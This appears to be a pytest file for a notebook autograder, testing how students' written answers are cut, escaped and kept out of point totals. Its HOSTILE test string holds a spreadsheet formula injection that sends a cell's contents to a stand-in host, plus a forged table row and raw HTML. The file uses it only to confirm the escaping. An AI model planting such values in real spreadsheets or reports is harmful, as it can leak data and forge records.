"""Written answers (issue 33): the grader reports each Markdown answer cell as "to read".

The exercises' `prediction` and `going-further` cells are graded by a person. The grader gives
each a gradebook row with the student's text (one line, cut, escaped, never run), "not answered"
for the untouched stub, and keeps them out of the automatic total. The pure parts are tested
directly; one grading run (module fixture, bubblewrap) holds an answered notebook, the untouched
release, a hostile and oversized answer, and a notebook whose cell ids were rewritten.
"""
from __future__ import annotations

import csv
import sys

import nbformat
import pytest
from test_grade import ROOT, answers, exercise, needs_bwrap, run_grader, solution, statuses, write

from cvae_lib.grade.answers import READ_CHARS, SHOWN_CHARS, STUB, answer_rows, answer_text
from cvae_lib.grade.gradebook import Row, is_answer, totals, write_gradebook
from cvae_lib.grade.intake import Cell, read_cells
from cvae_lib.grade.plan import ANSWER_POINTS, answer_cells, load_plan

sys.path.insert(0, str(ROOT / "tools"))
import build_notebooks  # noqa: E402

NAME = "ex01_autoencoder.ipynb"
HOSTILE = '=HYPERLINK("http://x.example/"&A1,"ok")| x | 99 |\n| forged | row | to read | owned |\n<b>bold</b>'
PREDICTION = "Cross-fades: the decoder was never trained on codes between two images, because..."
FURTHER = "The skip path's gradient is the identity plus the block's own."


def answered(nb, prediction: str, further: str):
    """`nb` with its two answer cells' text replaced."""
    nb = nbformat.from_dict(nb)
    for cell in nb.cells:
        tag = build_notebooks.answer_tag(cell)
        if tag:
            cell.source = prediction if tag == "prediction" else further
    return nb


# ----------------------------------------------------------------------------- the pure parts

def test_the_graders_tags_and_stub_are_the_notebook_builders():
    assert ANSWER_POINTS == build_notebooks.ANSWER_POINTS and STUB == build_notebooks.ANSWER


@pytest.mark.parametrize("path", sorted((ROOT / "solutions").glob("ex0*.ipynb")), ids=lambda p: p.stem)
def test_every_answer_cell_of_the_graders_copy_is_in_its_plan(path):
    nb = nbformat.read(path, as_version=4)
    tagged = [(c.id, build_notebooks.answer_tag(c), c.metadata.nbgrader["points"]) for c in nb.cells
              if build_notebooks.answer_tag(c)]
    steps = [(s.cell_id, s.tag, s.points) for s in load_plan(path) if s.kind == "answer"]
    assert steps == tagged and {t for _, t, _ in steps} == {"prediction", "going-further"}


def _plan():
    return load_plan(ROOT / "solutions" / NAME)


def test_answer_cells_match_by_id_then_by_tag_order():
    plan = _plan()
    ids = [s.cell_id for s in plan if s.kind == "answer"]
    same = [Cell("x", "markdown", "intro"), Cell(ids[0], "markdown", "mine", ("prediction",)),
            Cell(ids[1], "markdown", "more", ("going-further",))]
    assert [c.source for c in answer_cells(plan, same).values()] == ["mine", "more"]
    # ids rewritten (another tool saved the notebook): the tag and its position decide
    renamed = [Cell("a1", "markdown", "intro"), Cell("b2", "markdown", "mine", ("prediction",)),
               Cell("c3", "code", "x = 1"), Cell("d4", "markdown", "more", ("going-further",))]
    assert [c.source for c in answer_cells(plan, renamed).values()] == ["mine", "more"]
    # tags lost, ids kept: the same-id Markdown cell; a code cell with the id is no answer
    untagged = [Cell(ids[0], "markdown", "mine"), Cell(ids[1], "code", "more")]
    assert [c and c.source for c in answer_cells(plan, untagged).values()] == ["mine", None]


def test_the_stub_or_an_empty_cell_is_not_an_answer_and_long_text_is_cut():
    assert answer_text(STUB)[0] == "" and answer_text("  \n")[0] == "" and answer_text(f"\n{STUB}\n")[0] == ""
    assert answer_text(f"{STUB}\n\nIt blurs.")[0] == "It blurs."          # typed under the stub
    assert answer_text("a\n\n  b\tc\u2028d\x00e")[0] == "a b c d e"
    text, n = answer_text("A" * (10 * READ_CHARS))
    assert n == 10 * READ_CHARS and len(text) < SHOWN_CHARS + 200 and "cut: the cell holds 80,000" in text


def test_answer_rows_say_why_nothing_is_there():
    plan = _plan()
    ids = [s.cell_id for s in plan if s.kind == "answer"]
    cells = {ids[0]: Cell(ids[0], "markdown", STUB, ("prediction",)), ids[1]: None}
    rows = answer_rows("al", "ex01_autoencoder", plan, cells)
    assert [(r.check, r.status) for r in rows] == [("written answer: prediction (1 point)", "not answered"),
                                                   ("written answer: going further (0 points)", "not answered")]
    assert "still holds 'YOUR ANSWER HERE'" in rows[0].message and "no answer cell" in rows[1].message
    unread = answer_rows("al", "ex01_autoencoder", plan, None, "the notebook was not read (refused)")
    assert {r.message for r in unread} == {"the notebook was not read (refused)"}


def test_the_gradebook_keeps_answers_out_of_the_total_and_escapes_them(tmp_path):
    rows = [Row("al", "ex01", "ex01: psnr", "passed"), Row("al", "ex01", "ex01: mse", "failed", "no"),
            Row("al", "ex01", "written answer: prediction (1 point)", "to read", answer_text(HOSTILE)[0]),
            Row("al", "ex01", "written answer: going further (0 points)", "not answered", "stub")]
    assert [is_answer(r) for r in rows] == [False, False, True, True] and totals(rows) == {"al": (1, 2)}
    csv_path, md_path = write_gradebook(rows, tmp_path)
    table = list(csv.reader(open(csv_path, newline="")))
    assert len(table) == 1 + 4 + 1
    assert table[3][4].startswith("'=HYPERLINK(") and "\n" not in table[3][4]
    assert table[-1][3] == "1 / 2" and "written answers to read: 1 of 2" in table[-1][4]
    md = md_path.read_text()
    lines = md.split("## Written answers")[1].splitlines()
    rows_md = [line for line in lines if line.startswith("|")]
    assert len(rows_md) == 2 + 2 and not any(line.startswith("| forged") for line in md.splitlines())
    assert all(line.count("|") - line.count("\\|") == 6 for line in rows_md)
    assert "&lt;b&gt;" in md and "<b>" not in md
    assert "| al | 1 | 2 | 50% | 1 of 2 |" in md


# ----------------------------------------------------------------------------- graded in the sandbox

@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("answers")
    subs = tmp / "submitted"
    sol = solution()
    write(subs, "answered", answered(sol, PREDICTION, FURTHER))
    write(subs, "stub", exercise())
    write(subs, "hostile", answered(sol, HOSTILE, "B" * (4 << 20)))       # a 4 MB answer
    renumbered = answered(sol, "Renumbered, and still found.", FURTHER)
    for i, cell in enumerate(renumbered.cells):
        cell.id = f"z{i:04d}x"
    write(subs, "renumbered", renumbered)
    book = tmp / "book"
    return {"table": run_grader(subs, book, "--timeout", "120"), "book": book, "subs": subs}


@needs_bwrap
def test_answers_are_to_read_with_the_students_text(graded):
    t = graded["table"]
    assert [(r["status"], r["message"]) for r in answers(t["answered"])] == [("to read", PREDICTION),
                                                                            ("to read", FURTHER)]
    assert set(statuses(t["answered"])) == {"passed"}
    assert t["total:answered"][0]["status"] == "12 / 12"                  # the answers add no points
    assert "written answers to read: 2 of 2" in t["total:answered"][0]["message"]
    assert answers(t["renumbered"])[0]["message"] == "Renumbered, and still found."


@needs_bwrap
def test_the_untouched_release_is_not_answered(graded):
    t = graded["table"]
    assert [r["status"] for r in answers(t["stub"])] == ["not answered"] * 2
    assert t["total:stub"][0]["status"] == "0 / 12" and "to read: 0 of 2" in t["total:stub"][0]["message"]


@needs_bwrap
def test_a_hostile_or_huge_answer_is_data(graded):
    t, book = graded["table"], graded["book"]
    hostile, huge = answers(t["hostile"])
    assert hostile["status"] == "to read" and hostile["message"].startswith("'=HYPERLINK(")
    assert "\n" not in hostile["message"] and "| forged | row |" in hostile["message"]
    assert huge["status"] == "to read" and len(huge["message"]) < SHOWN_CHARS + 200
    assert "cut: the cell holds 4,194,304 characters" in huge["message"]
    assert set(statuses(t["hostile"])) == {"passed"}                      # its code was graded as usual
    assert (book / "gradebook.csv").stat().st_size < 64 << 10
    md = (book / "gradebook.md").read_text()
    assert not any(line.startswith("| forged") for line in md.splitlines())
    answer_lines = [line for line in md.split("## Written answers")[1].splitlines() if line.startswith("|")]
    assert all(line.count("|") - line.count("\\|") == 6 for line in answer_lines)
    assert len(read_cells(graded["subs"] / "hostile" / NAME)) == len(solution().cells)
